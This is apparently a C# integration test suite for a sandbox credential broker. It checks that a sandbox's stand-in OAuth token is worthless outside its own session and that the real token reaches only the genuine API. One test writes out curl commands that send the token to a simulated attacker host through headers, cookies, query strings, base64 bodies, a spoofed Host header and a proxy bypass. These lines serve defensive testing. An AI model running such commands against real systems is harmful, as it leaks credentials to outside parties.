namespace Sandbox.Integration.Tests;

/// <summary>CR-07 and what the stand-in of a session is worth: nothing anywhere but at that session's broker.</summary>
public sealed class SentinelTests(AgentFixture fixture) : IClassFixture<AgentFixture>
{
    private const string Ask = "curl -s -m10 -o answer -w '%{http_code}\\n' -H \"Authorization: Bearer $T\" -H 'Content-Type: application/json' -d '{}' $ANTHROPIC_BASE_URL/v1/messages";

    [TheoryWithin(60), ClassData(typeof(IdentityData))]
    public void The_stand_in_of_one_sandbox_is_refused_by_the_broker_of_another(Identity identity)
    {
        using UpstreamServer server = new();
        using Workspace one = fixture.Create(identity);
        using Workspace other = fixture.Create(identity);
        Canary canary = new();
        server.Good = canary.Token;
        foreach (Workspace workspace in new[] { one, other })
        {
            canary.PutInEnvironment(workspace);
            workspace.Environment["ANTHROPIC_BASE_URL"] = server.Address.ToString();
        }

        using LiveProcess first = one.StartInside("echo \"[$CLAUDE_CODE_OAUTH_TOKEN]\"; echo ready; sleep 600", "--credentials", "broker");
        string stolen = first.OutputSoFar.Split('[', ']')[1];
        string script = $"T=$CLAUDE_CODE_OAUTH_TOKEN; {Ask}; T={stolen}; {Ask}; cat answer; T=; {Ask}; T=sk-ant-oat01-guess; {Ask}";

        string inside = other.Inside(script, "--credentials", "broker").ExpectExit().OutputText;

        Assert.StartsWith("sk-ant-oat01-", stolen, StringComparison.Ordinal);
        Assert.Matches("^200\n401\n.*401\n401\n$", inside.ReplaceLineEndings("\n"));
        Assert.DoesNotContain(canary.Text, inside, StringComparison.Ordinal);
        Assert.Single(server.Seen);

        // And from outside it is no credential at all.
        Assert.Equal("401\n", other.Outside($"T={stolen}; ANTHROPIC_BASE_URL={server.Address.ToString().TrimEnd('/')}; {Ask}").OutputText);
    }

    [TheoryWithin(60), ClassData(typeof(IdentityData))]
    public void The_real_value_appears_in_its_own_field_of_the_API_and_nowhere_else(Identity identity)
    {
        using UpstreamServer server = new();
        using AttackerServer attacker = AttackerServer.Everywhere(knownPorts: false);
        using Workspace workspace = fixture.Create(identity);
        Canary canary = new();
        canary.PutInEnvironment(workspace);
        server.Good = canary.Token;
        workspace.Environment["ANTHROPIC_BASE_URL"] = server.Address.ToString();
        string script =
            $"""
            T=$CLAUDE_CODE_OAUTH_TOKEN
            curl -s -m10 -i -H "Authorization: Bearer $T" -H "X-Copy: $T" -H "Cookie: a=$T" -H "Proxy-Authorization: Bearer $T" -d "body $T $(printf %s "$T" | base64 -w0)" "$ANTHROPIC_BASE_URL/v1/messages?query=$T"
            curl -s -m10 -o /dev/null -w '%{"{http_code}"}\n' -H "Authorization: Bearer $T" -H 'Host: {attacker.Authority}' $ANTHROPIC_BASE_URL/v1/messages
            curl -s -m10 -o /dev/null -H "Authorization: Bearer $T" http://{attacker.Authority}/v1/messages?t=$T
            curl -s -m10 -o /dev/null --noproxy '*' -H "x-api-key: $T" http://{attacker.Authority}/
            """;

        string inside = workspace.Inside(script, "--credentials", "broker", "--allow", attacker.Authority).OutputText;

        string first = server.Seen[0];
        Assert.Equal(2, first.Split(canary.Text).Length);
        Assert.Contains($"Authorization: Bearer {canary.Token}", first, StringComparison.Ordinal);
        Assert.DoesNotContain(canary.Text, inside, StringComparison.Ordinal);
        Assert.Contains("200", inside, StringComparison.Ordinal);
        Assert.DoesNotContain(canary.Text, attacker.Received, StringComparison.Ordinal);
        Assert.Contains("sk-ant-oat01-", attacker.Received, StringComparison.Ordinal);

        // The control: without a broker the attacker has it.
        _ = workspace.Inside(script, "--allow", attacker.Authority, "--credentials", "env");
        Assert.Contains(canary.Token, attacker.Received, StringComparison.Ordinal);
    }

    [TheoryWithin(60), ClassData(typeof(IdentityData))]
    public void A_login_that_is_renewed_outside_works_inside_without_a_restart(Identity identity)
    {
        using UpstreamServer server = new();
        using Workspace workspace = fixture.Create(identity);
        Canary old = new();
        Canary renewed = new();
        Canary last = new();
        _ = old.PutInLoginFile(workspace);
        server.Good = renewed.Token;
        workspace.Environment["ANTHROPIC_BASE_URL"] = server.Address.ToString();
        string script = $"T=$CLAUDE_CODE_OAUTH_TOKEN; {Ask}; echo ready; while [ ! -e go ]; do sleep 0.05; done; {Ask}; while [ ! -e again ]; do sleep 0.05; done; {Ask}";
        using LiveProcess live = workspace.StartInside(script, "--credentials", "broker");

        _ = renewed.PutInLoginFile(workspace);

        // Renewed once more in the middle of a request: the broker asks again itself.
        int asked = 0;
        _ = workspace.Write(workspace.At("project", "go"), string.Empty);
        Eventually.Holds(() => live.OutputSoFar.Contains("200", StringComparison.Ordinal), "the renewed login works");
        server.Rejecting = () =>
        {
            asked++;
            _ = last.PutInLoginFile(workspace);
        };
        server.Good = last.Token;
        _ = workspace.Write(workspace.At("project", "again"), string.Empty);

        Assert.Equal("401\nready\n200\n200\n", live.WaitForExit().ExpectExit().OutputText);
        Assert.Equal(1, asked);
    }
}
